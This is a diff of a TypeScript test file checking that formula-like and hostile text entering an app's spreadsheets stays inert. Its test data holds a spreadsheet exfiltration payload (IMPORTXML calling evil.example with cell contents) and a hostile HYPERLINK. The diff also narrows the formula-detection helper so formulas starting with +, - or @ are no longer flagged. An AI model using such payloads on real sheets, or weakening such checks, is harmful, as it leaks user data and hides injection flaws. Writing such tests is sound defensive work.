@@ -2,7 +2,7 @@
  * Text that means harm, or just does it, from a mail, a card or an import into a cell and back onto another person's
  * card: it is shown as what it is, and it does nothing.
  */
-import { ada, arthit, type Company, lena, mina, openCompany, type Page } from '../support/company';
+import { ada, arthit, type Company, lena, mina, openCompany, type Page, paste } from '../support/company';
 import { everyField } from '../support/forms';
 import { aMail } from '../support/mails';
 
@@ -22,7 +22,7 @@ const account = (as: string): Page => company.open(as, { messageId: mail.id });
 function formulas(): readonly string[] {
   const { sheets } = company.workspace;
   const cells = sheets.list().tabs.flatMap(({ key }) => sheets.view(key).rows.flatMap((row) => row.cells));
-  return cells.map(({ value, text }) => (/^[=+@-]./.test(String(value)) && text !== value ? text : '')).filter(Boolean);
+  return cells.map(({ value, text }) => (String(value).startsWith('=') && text !== value ? text : '')).filter(Boolean);
 }
 
 const formulaTexts = ['=IMPORTXML("http://evil.example?"&A1, "//a")', '+1+1', '-2+3', '@SUM(A1)', '=1+1', "'=1+1"];
@@ -43,6 +43,19 @@ describe('a text that looks like a formula', () => {
     const row = values('signals').find((cells) => cells.includes('=1+1'));
     expect(Object.values(fields).filter((text) => !row?.includes(text))).toEqual([]);
     expect(formulas()).toEqual([]);
+  });
+});
+
+describe('an import', () => {
+  test('brings hostile text in as text, and refuses nothing for it', () => {
+    const name = `=1+1 <b>x</b> ${rlo}evil${bell}`;
+    const row = ['A-9', `'${name}`, 'hostile.example', '\'=HYPERLINK("http://evil.example")'];
+    paste(company, 'accounts', [['External id', 'Name', 'Domains', 'Segment'], row]);
+    const cells = values('accounts').find((line) => line.includes('A-9')) ?? [];
+    expect(cells).toEqual(expect.arrayContaining(['=1+1 <b>x</b> evil', '=HYPERLINK("http://evil.example")']));
+    expect(formulas()).toEqual([]);
+    const found = company.open(arthit).click('do=openSearch').click('do=search', { query: 'hostile.example' });
+    expect(plain(found.text)).toContain('=1+1 <b>x</b> evil');
   });
 });
 
